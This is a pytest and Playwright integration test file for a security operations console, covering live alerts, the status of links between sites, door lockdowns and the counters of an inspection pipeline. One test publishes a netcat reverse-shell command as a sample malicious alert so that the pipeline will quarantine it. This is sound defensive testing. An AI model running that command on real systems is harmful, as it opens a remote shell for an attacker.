"""The operator console in a real browser (Debian's Chromium driven by Playwright).

Two real sites with a short link-down threshold; the page of site ``a`` must show, with no
reload: an alert raised through the API, an alert raised at ``b`` with its origin badge,
the a-b link going down when b's NATS stops and healthy when it returns, and an operator
lockdown clicked in the page reaching a simulated door. A third site runs the Sentinel
cluster (three real nodes): its page's Sentinel panel counts a real client connecting and
leaving per region, shows a stopped node as down, and follows the counters of the real
inspection pipeline live (an alert published at the origin, one clean, one quarantined).
A failing test leaves a screenshot of the page under ``.bench/artifacts/console/``.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import shutil
import ssl
import uuid
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiomqtt
import pytest
import redis.asyncio as aioredis

from backend.retry import Backoff
from backend.sentinel.authdb import AuthDb
from backend.sentinel.naming import COUNTERS_KEY
from bench.benchfile import SiteInfo
from bench.fleet import mqtt_fleet
from bench.services.sentinel_client import mqtt_client
from bench.site import RunningBench
from simulators import LockState
from simulators.fleetspec import parse_fleet_spec

playwright_api = pytest.importorskip("playwright.async_api")

pytestmark = pytest.mark.integration

CHROMIUM = shutil.which("chromium") or "/usr/bin/chromium"
ARTIFACTS = Path(".bench/artifacts/console")
# Flags the machine needs: no sandbox as root, and no background traffic to Google's hosts
# (this network is closed; Chromium would otherwise retry them at every start).
CHROMIUM_ARGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
FAST_LINKS = {
    "AURORA_HEARTBEAT_INTERVAL_SECONDS": "0.5",
    "AURORA_LINK_DEGRADED_AFTER_S": "2",
    "AURORA_LINK_DOWN_AFTER_S": "4",
}
DOOR_SPEC = {
    "seed": 3,
    "boards": [{"board": "stm32f401-door", "count": 1, "id_pattern": "console-door-{n:02d}"}],
}


@pytest.fixture(scope="module")
def sites(bench_factory: Any) -> RunningBench:
    """Two federated sites whose link goes down within seconds (not the default 120 s)."""
    return bench_factory(["a", "b"], site_env={"a": FAST_LINKS, "b": FAST_LINKS})


@pytest.fixture(scope="module")
async def browser() -> AsyncIterator[Any]:
    if not Path(CHROMIUM).exists():
        pytest.fail(f"Chromium is not installed at {CHROMIUM}: run `make setup`")
    async with playwright_api.async_playwright() as playwright:
        launched = await playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            yield launched
        finally:
            await launched.close()


def console_url(site: SiteInfo) -> str:
    return f"{site.api}/#token={site.api_token}" if site.api_token else f"{site.api}/"


@contextlib.asynccontextmanager
async def open_console(
    browser: Any, site: SiteInfo, request: pytest.FixtureRequest
) -> AsyncIterator[Any]:
    """The site's console, open and live; fails the test on any console error or page error."""
    context = await browser.new_context(viewport={"width": 1400, "height": 1000})
    tab = await context.new_page()
    errors: list[str] = []
    tab.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
    tab.on("pageerror", lambda e: errors.append(str(e)))
    await tab.goto(console_url(site))
    await tab.wait_for_selector("#live.pill-on", timeout=10_000)
    try:
        yield tab
        assert errors == [], f"the page logged errors: {errors}"
    finally:
        failed = getattr(request.node, "rep_call", None)
        if failed is None or failed.failed:
            ARTIFACTS.mkdir(parents=True, exist_ok=True)
            await tab.screenshot(path=str(ARTIFACTS / f"{request.node.name}.png"), full_page=True)
        await context.close()


@pytest.fixture
async def page(browser: Any, sites: RunningBench, request: pytest.FixtureRequest) -> Any:
    """Site a's console (the two-site bench)."""
    async with open_console(browser, sites.site("a"), request) as tab:
        yield tab


async def raise_alert(site: SiteInfo, title: str, severity: str = "critical") -> dict[str, Any]:
    async with site.api_client(timeout=10) as api:
        response = await api.post(
            "/api/v1/alerts", json={"type": "c2_beacon", "severity": severity, "title": title}
        )
    assert response.status_code == 201, response.text
    body: dict[str, Any] = response.json()
    return body


async def test_console_loads_with_its_panels_and_docs_work_offline(
    page: Any, sites: RunningBench
) -> None:
    assert await page.title() == "AuroraSOC · site a"
    for panel in ("#topology-panel", "#summary-panel", "#alerts-panel", "#devices-panel"):
        assert await page.is_visible(panel)
    assert await page.locator("#summary [data-tile='devices'] b").inner_text() != ""
    docs = await page.context.new_page()
    offline: list[str] = []
    docs.on("requestfailed", lambda r: offline.append(r.url))
    await docs.goto(f"{sites.site('a').api}/docs")
    # Swagger UI renders the operations only once its bundle (served by the site) ran.
    await docs.wait_for_selector(".opblock", timeout=10_000)
    assert offline == []


async def test_an_alert_appears_in_the_queue_within_a_second(
    page: Any, sites: RunningBench
) -> None:
    title = f"beacon {uuid.uuid4().hex[:8]}"
    await raise_alert(sites.site("a"), title)
    row = page.locator("#alerts tbody tr", has_text=title)
    await row.wait_for(timeout=1_000)
    assert await row.locator("td").nth(1).inner_text() == "critical"
    assert await row.locator(".badge-origin").count() == 0


async def test_an_alert_raised_at_b_appears_at_a_with_its_origin_badge(
    page: Any, sites: RunningBench
) -> None:
    title = f"from b {uuid.uuid4().hex[:8]}"
    await raise_alert(sites.site("b"), title)
    row = page.locator("#alerts tbody tr", has_text=title)
    await row.wait_for(timeout=10_000)
    assert await row.locator(".badge-origin").inner_text() == "from b"


async def test_the_link_turns_down_when_bs_nats_stops_and_heals(
    page: Any, sites: RunningBench
) -> None:
    link = page.locator("#topology line.link")
    await page.wait_for_selector(
        "#topology line.link[data-status='healthy']", timeout=15_000, state="attached"
    )
    await asyncio.to_thread(sites.stop_service, "b", "nats")
    try:
        await page.wait_for_selector(
            "#topology line.link[data-status='down']", timeout=20_000, state="attached"
        )
        assert "down" in (await page.locator("#topology .link-label").text_content() or "")
    finally:
        await asyncio.to_thread(sites.start_service, "b", "nats")
    await page.wait_for_selector(
        "#topology line.link[data-status='healthy']", timeout=30_000, state="attached"
    )
    assert await link.count() == 1


async def test_an_operator_lockdown_from_the_page_reaches_a_simulated_door(
    page: Any, sites: RunningBench
) -> None:
    fleet = mqtt_fleet(
        parse_fleet_spec(DOOR_SPEC), sites.info, sites.pki, speed=5, backoff=Backoff(0.2, 2)
    )
    async with fleet:
        await fleet.wait_connected(timeout_s=30)
        door = fleet.door("console-door-01")
        row = page.locator("#devices tbody tr[data-device-id='console-door-01']")
        await row.wait_for(timeout=15_000)
        await row.locator("button[data-verb='lockdown']").click()
        async with asyncio.timeout(10):
            while door.lock_state is not LockState.LOCKDOWN:
                await asyncio.sleep(0.05)
        # The page shows the confirmation the site's audit stream carried back.
        await page.locator("#events li", has_text="confirmed: lockdown").wait_for(timeout=5_000)
        assert "lockdown" in await row.locator("td.door").inner_text()


async def test_the_event_stream_needs_no_reload_and_survives_redis_restart(
    page: Any, sites: RunningBench
) -> None:
    await asyncio.to_thread(sites.stop_service, "a", "redis")
    try:
        await page.locator("#status-note", has_text="redis").wait_for(timeout=10_000)
    finally:
        await asyncio.to_thread(sites.start_service, "a", "redis")
    title = f"after redis {uuid.uuid4().hex[:8]}"
    await raise_alert(sites.site("a"), title)
    await page.locator("#alerts tbody tr", has_text=title).wait_for(timeout=10_000)


# -- the Sentinel panel ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def sentinel_site(bench_factory: Any) -> RunningBench:
    """Site a with the Sentinel cluster (three nodes); the bench gives a's backend the
    nodes' monitor URLs (AURORA_SENTINEL_MONITORS)."""
    bench: RunningBench = bench_factory(["a"], sentinel=True)
    return bench


@pytest.fixture
async def sentinel_page(
    browser: Any, sentinel_site: RunningBench, request: pytest.FixtureRequest
) -> Any:
    async with open_console(browser, sentinel_site.site("a"), request) as tab:
        await tab.wait_for_selector("#sentinel-panel", state="visible", timeout=10_000)
        yield tab


async def add_sentinel_client(bench: RunningBench, client_id: str) -> None:
    """A client in the Auth DB the callout reads (region eu-west)."""
    db = AuthDb.open(bench.site("a").database)
    try:
        await db.start()
        await db.add(client_id, "console-pass", "eu-west")
    finally:
        await db.aclose()


async def region_tile(page: Any, region: str, status: str = "up") -> Any:
    tile = page.locator(f"#sentinel-regions [data-region='{region}'][data-status='{status}']")
    await tile.wait_for(timeout=15_000, state="attached")
    return tile


async def wait_text(locator: Any, text: str, timeout_s: float = 10.0) -> None:
    """Until the locator's text is ``text`` (the page changes it in place: no reload)."""
    seen = None
    try:
        async with asyncio.timeout(timeout_s):
            while (seen := await locator.inner_text()) != text:
                await asyncio.sleep(0.1)
    except TimeoutError:
        pytest.fail(f"the page showed {seen!r}, not {text!r}, for {timeout_s:g} s")


async def test_the_sentinel_panel_counts_a_real_client_in_its_region(
    sentinel_page: Any, sentinel_site: RunningBench
) -> None:
    info = sentinel_site.info.sentinel
    assert info is not None
    for node in info.nodes:
        await region_tile(sentinel_page, node.region)
    eu_west = sentinel_page.locator("#sentinel-regions [data-region='eu-west'] b")
    before = int((await eu_west.inner_text()).replace(",", ""))
    client_id = f"console-{uuid.uuid4().hex[:8]}"
    await add_sentinel_client(sentinel_site, client_id)
    mqtt = info.nodes[1].mqtt
    assert info.nodes[1].region == "eu-west"
    async with mqtt_client(mqtt.host, mqtt.port, sentinel_site.info.ca, client_id, "console-pass"):
        await wait_text(eu_west, str(before + 1))
    await wait_text(eu_west, str(before))


async def number_at_least(locator: Any, least: int, timeout_s: float = 30.0) -> int:
    """Until the number the page shows (changed in place: no reload) is >= ``least``."""
    seen = ""
    try:
        async with asyncio.timeout(timeout_s):
            while True:
                seen = await locator.inner_text()
                if seen.replace(",", "").isdigit() and int(seen.replace(",", "")) >= least:
                    return int(seen.replace(",", ""))
                await asyncio.sleep(0.1)
    except TimeoutError:
        pytest.fail(f"the page showed {seen!r}, not at least {least}, for {timeout_s:g} s")


async def test_the_sentinel_counters_follow_the_real_pipeline_without_reload(
    sentinel_page: Any, sentinel_site: RunningBench
) -> None:
    info = sentinel_site.info.sentinel
    assert info is not None
    # A mark in the page's window: a reload would lose it.
    await sentinel_page.evaluate("window.__noReload = true")
    tiles = {
        name: sentinel_page.locator(f"#sentinel-counts [data-counter='{name}'] b")
        for name in ("inspected", "delivered", "flagged", "quarantined")
    }
    await tiles["inspected"].wait_for(timeout=10_000)
    redis = aioredis.from_url(sentinel_site.site("a").redis, decode_responses=True)
    try:
        start = {k: int(v) for k, v in (await redis.hgetall(COUNTERS_KEY)).items()}
    finally:
        await redis.aclose()
    client_id = f"console-{uuid.uuid4().hex[:8]}"
    await add_sentinel_client(sentinel_site, client_id)
    # The customer origin publishes, as in production: the Sentinel's workers inspect,
    # deliver the clean alert, quarantine the reverse shell and count both in Redis.
    context = ssl.create_default_context(cafile=sentinel_site.info.ca)
    context.load_cert_chain(info.origin.publisher_cert, info.origin.publisher_key)
    async with aiomqtt.Client(
        info.origin.mqtt.host, info.origin.mqtt.port, tls_context=context,
        protocol=aiomqtt.ProtocolVersion.V5, identifier=f"console-pub-{uuid.uuid4().hex[:8]}",
    ) as publisher:  # fmt: skip
        bad = json.dumps({"title": "x", "details": {"cmd": "nc -e /bin/sh 10.9.9.9 4444"}})
        await publisher.publish(f"clients/{client_id}/alerts", b'{"title": "fine"}', qos=1)
        await publisher.publish(f"clients/{client_id}/alerts", bad.encode(), qos=1)
    await number_at_least(tiles["inspected"], start.get("inspected", 0) + 2)
    await number_at_least(tiles["delivered"], start.get("delivered", 0) + 1)
    await number_at_least(tiles["quarantined"], start.get("quarantined", 0) + 1)
    assert await sentinel_page.evaluate("window.__noReload") is True


async def test_a_stopped_sentinel_node_shows_as_down_and_comes_back(
    sentinel_page: Any, sentinel_site: RunningBench
) -> None:
    cluster = sentinel_site.sentinel
    assert cluster is not None
    await region_tile(sentinel_page, "ap-south")
    await asyncio.to_thread(cluster.kill_node, "ap-south")
    try:
        down = await region_tile(sentinel_page, "ap-south", "down")
        assert await down.locator("b").inner_text() == "down"
        # The other regions keep their counts: one node down is not an error page.
        await region_tile(sentinel_page, "us-east")
    finally:
        await asyncio.to_thread(cluster.start_node, "ap-south")
    await region_tile(sentinel_page, "ap-south")
